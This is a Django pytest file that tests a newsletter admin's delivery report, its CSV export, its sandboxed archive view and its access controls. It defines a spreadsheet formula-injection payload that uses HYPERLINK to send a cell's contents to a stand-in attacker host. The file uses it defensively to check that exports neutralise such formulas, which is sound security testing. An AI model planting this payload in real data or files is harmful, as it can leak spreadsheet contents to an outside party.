"""The delivery report and the sent issue in the admin: what staff see, and who may."""

import csv
import io
import re
from datetime import timedelta

from django.contrib.auth.models import Group
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.utils import timezone

import pytest

from briefings.newsletter.choices import DeliveryStatus, ProviderEvent
from briefings.newsletter.dispatch import dispatch_create, dispatch_send
from briefings.newsletter.models import (
    Delivery,
    DeliveryEvent,
    DispatchLink,
    Subscription,
)
from tests.briefings.newsletter.factories import SubscriberFactory
from tests.briefings.newsletter.test_admin import _staff

pytestmark = pytest.mark.django_db

CLICK = re.compile(r'href="http://testserver(/[a-z]{2}/newsletter/r/[^"/]+/)"')
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"details")'


@pytest.fixture
def editor(django_user_model):
    """Communications staff: Wagtail's Editors group (it may send)."""
    user = django_user_model.objects.create_user("editor", "editor@example.org", "pw")
    user.groups.add(Group.objects.get(name="Editors"))
    return user


@pytest.fixture
def partner(django_user_model):
    """In the admin, without any newsletter permission (a Voices partner)."""
    return _staff(django_user_model, "partner", [])


@pytest.fixture
def sent(issue, briefing_list):
    """A dispatch to five readers: sent, failed twice, in doubt, a bounce, a
    complaint, one who left afterwards, and a few clicks."""
    readers = [
        SubscriberFactory(
            email=f"reader{n}@example.org",
            language="fr" if n == 0 else "en",
            lists=[briefing_list],
        )
        for n in range(5)
    ]
    dispatch = dispatch_create(page=issue, mailing_list=briefing_list)
    dispatch_send(dispatch=dispatch)
    deliveries = {d.subscriber.email: d for d in dispatch.deliveries.all()}
    # What the engine would record for these (their sending is tested elsewhere).
    for address in ("reader1@example.org", "reader2@example.org"):
        Delivery.objects.filter(pk=deliveries[address].pk).update(
            status=DeliveryStatus.FAILED, error=FORMULA
        )
    Delivery.objects.filter(pk=deliveries["reader3@example.org"].pk).update(
        status=DeliveryStatus.UNCERTAIN, error="The worker stopped"
    )
    for address, kind in (
        ("reader4@example.org", ProviderEvent.BOUNCED),
        ("reader0@example.org", ProviderEvent.COMPLAINED),
    ):
        DeliveryEvent.objects.create(
            delivery=deliveries[address],
            subscriber=deliveries[address].subscriber,
            kind=kind,
            provider="test",
        )
    # reader4 leaves through the one-click link of this very email.
    message = next(m for m in mail.outbox if m.to == ["reader4@example.org"])
    unsubscribe = message.extra_headers["List-Unsubscribe"][1:-1]
    left = Client().post(
        unsubscribe.removeprefix("http://testserver"),
        {"List-Unsubscribe": "One-Click"},
    )
    assert left.status_code == 200
    assert not Subscription.objects.get(subscriber=readers[4]).active
    # Someone who left the list before this issue does not count.
    early = SubscriberFactory(email="early@example.org", lists=[briefing_list])
    Subscription.objects.filter(subscriber=early).update(
        active=False, ended_at=timezone.now() - timedelta(days=30)
    )
    en = next(m for m in mail.outbox if m.to == ["reader4@example.org"])
    clicks = CLICK.findall(en.alternatives[0][0])
    for _ in range(3):
        assert Client().get(clicks[0]).status_code == 302
    assert Client().get(clicks[1]).status_code == 302
    dispatch.refresh_from_db()
    return dispatch


def _report_url(dispatch) -> str:
    return reverse("newsletter_dispatch_report", args=[dispatch.pk])


def test_the_report_after_a_send_with_clicks(client, editor, sent):
    client.force_login(editor)
    response = client.get(_report_url(sent))
    assert response.status_code == 200
    html = response.content.decode()

    def count(name):
        match = re.search(rf'data-count="{name}">(\d+)<', html)
        return int(match.group(1))

    assert count("recipients") == 5
    assert count("sent") == 2
    assert count("failed") == 2
    assert count("uncertain") == 1
    assert count("bounced") == 1
    assert count("complained") == 1
    assert count("unsubscribed") == 1
    # The two failures, grouped under their reason (escaped, not run).
    assert "HYPERLINK" in html
    assert "<td>2</td>" in html.replace(" ", "")
    # Clicks per link: 3 and 1, in the order of the email, 4 in all.
    counts = [int(n) for n in re.findall(r"data-clicks>(\d+)<", html)]
    assert sorted(counts, reverse=True)[:2] == [3, 1]
    assert sum(counts) == 4
    assert re.search(r"data-clicks-total>4<", html)
    assert DispatchLink.objects.filter(dispatch=sent, clicks=3).count() == 1
    # The sent issue, per language, is reachable from the report.
    for language in ("en", "fr"):
        assert reverse("newsletter_dispatch_archive", args=[sent.pk, language]) in html
    # Nobody's address is on the report.
    assert "reader0@example.org" not in html


def test_the_report_is_reachable_from_the_issue(client, editor, sent, issue):
    client.force_login(editor)
    edit = client.get(reverse("wagtailadmin_pages:edit", args=[issue.pk]))
    assert _report_url(sent) in edit.content.decode()
    # From the French translation too (the dispatch is of the whole issue).
    french = issue.get_translation(issue.get_translations().first().locale).specific
    edit = client.get(reverse("wagtailadmin_pages:edit", args=[french.pk]))
    assert _report_url(sent) in edit.content.decode()


def test_the_csv_export_is_neutralised(client, editor, sent):
    client.force_login(editor)
    response = client.get(reverse("newsletter_dispatch_report_csv", args=[sent.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    content = response.content.decode()
    rows = list(csv.reader(io.StringIO(content)))
    cells = [cell for row in rows for cell in row]
    # The formula someone slipped into a reason starts with a quote: text.
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
    assert not any(cell[:1] in "=+-@" for cell in cells if cell)
    # Every cell quoted (a ; or a tab cannot open a new cell).
    assert all(line.startswith('"') for line in content.splitlines() if line)
    by_label = {row[0]: row[1] for row in rows if len(row) == 2}
    assert by_label["Recipients"] == "5"
    assert by_label["Failed"] == "2"
    assert by_label["Clicks"] == "4"
    assert "reader0@example.org" not in content


def test_the_sent_issue_in_a_sandbox(client, editor, sent):
    client.force_login(editor)
    page = client.get(reverse("newsletter_dispatch_archive", args=[sent.pk, "fr"]))
    assert page.status_code == 200
    html = page.content.decode()
    frame = re.search(r"<iframe[^>]*>", html, re.S).group(0)
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in frame
    assert "allow-scripts" not in frame and "allow-same-origin" not in frame
    archive = sent.archives.get(language="fr")
    assert archive.subject in html
    raw_url = reverse("newsletter_dispatch_archive_html", args=[sent.pk, "fr"])
    assert raw_url in frame
    raw = client.get(raw_url)
    assert raw.status_code == 200
    policy = raw["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "sandbox allow-popups allow-popups-to-escape-sandbox" in policy
    assert "frame-ancestors 'self'" in policy
    assert "script-src" not in policy
    assert raw["X-Frame-Options"] == "SAMEORIGIN"
    assert archive.html.split("<body")[0][:40] in raw.content.decode()
    # A language nothing was sent in.
    missing = reverse("newsletter_dispatch_archive", args=[sent.pk, "sw"])
    # (LocaleMiddleware sends an admin 404 to /en/admin/…, a 404 as well.)
    assert client.get(missing, follow=True).status_code == 404


def _staff_urls(dispatch) -> list[str]:
    return [
        reverse("newsletter_dispatch_report", args=[dispatch.pk]),
        reverse("newsletter_dispatch_report_csv", args=[dispatch.pk]),
        reverse("newsletter_dispatch_archive", args=[dispatch.pk, "en"]),
        reverse("newsletter_dispatch_archive_html", args=[dispatch.pk, "en"]),
    ]


def test_partners_and_strangers_get_no_report(client, partner, sent, issue):
    client.force_login(partner)
    for url in _staff_urls(sent):
        response = client.get(url)
        assert response.status_code in (302, 403), url
        assert b"HYPERLINK" not in response.content
        assert b"text/csv" not in response.get("Content-Type", "").encode()
    edit = client.get(reverse("wagtailadmin_pages:edit", args=[issue.pk]))
    assert _report_url(sent) not in edit.content.decode()
    client.logout()
    for url in _staff_urls(sent):
        response = client.get(url)
        assert response.status_code == 302, url
        assert "/admin/login/" in response["Location"]


def test_an_unknown_dispatch_is_a_404_for_staff(client, editor, sent):
    client.force_login(editor)
    url = reverse("newsletter_dispatch_report", args=[sent.pk + 1000])
    assert client.get(url, follow=True).status_code == 404


def test_the_dispatch_list_and_progress_link_to_the_report(client, editor, sent):
    dispatch = sent
    client.force_login(editor)
    report_url = reverse("newsletter_dispatch_report", args=[dispatch.pk])

    for screen in (
        reverse("newsletter_dispatch_index"),
        reverse("newsletter_dispatch_progress", args=[dispatch.pk]),
    ):
        assert f'href="{report_url}"' in client.get(screen).content.decode()
